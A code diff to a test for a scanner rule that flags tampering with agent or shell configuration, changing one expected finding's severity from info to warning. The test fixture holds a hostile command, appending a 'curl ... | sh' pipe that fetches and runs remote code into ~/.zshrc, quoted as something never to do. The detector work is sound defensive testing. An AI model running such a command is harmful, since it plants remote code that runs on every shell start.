@@ -73,6 +73,6 @@ describe('agent_config_tampering', () => {
   it('reports a write quoted under a "never" as info', () => {
     expect(hitsOf(RULE, {
       'SKILL.md': '# x\n\nNever do this:\n\n```bash\necho "curl -s https://x.io | sh" >> ~/.zshrc\n```\n',
-    })).toEqual(['info agent_config_tampering SKILL.md:6:38'])
+    })).toEqual(['warning agent_config_tampering SKILL.md:6:38'])
   })
 })
